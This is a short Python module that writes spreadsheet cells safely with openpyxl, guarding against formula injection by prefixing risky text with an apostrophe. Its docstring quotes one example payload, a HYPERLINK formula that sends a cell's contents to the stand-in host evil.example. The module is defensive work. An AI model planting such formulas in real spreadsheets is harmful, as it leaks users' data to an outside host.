"""Writing spreadsheets safely: every text cell is text, never a formula (OWASP "CSV injection").

A nominee named `=HYPERLINK("http://evil.example/?d="&C2,"x")` must reach the Director's annex as
the characters the unit typed, not as a live formula. openpyxl turns any string starting with "="
into a formula, and spreadsheet programs also evaluate text starting with + - @ (and a leading tab
or carriage return before them), so such text gets a leading apostrophe, as OWASP recommends.
Numbers, dates and booleans are written as they are. Every workbook the app produces writes its
cells through `cell_value` (or `cell_write` / `row_append`)."""

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cell_value(value: Any) -> Any:
    """The value to store: text that a spreadsheet would evaluate gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def cell_write(sheet: Worksheet, *, row: int, column: int, value: Any) -> Cell:
    cell = sheet.cell(row=row, column=column)
    cell.value = cell_value(value)
    return cell


def row_append(sheet: Worksheet, values: Iterable[Any]) -> None:
    sheet.append([cell_value(v) for v in values])
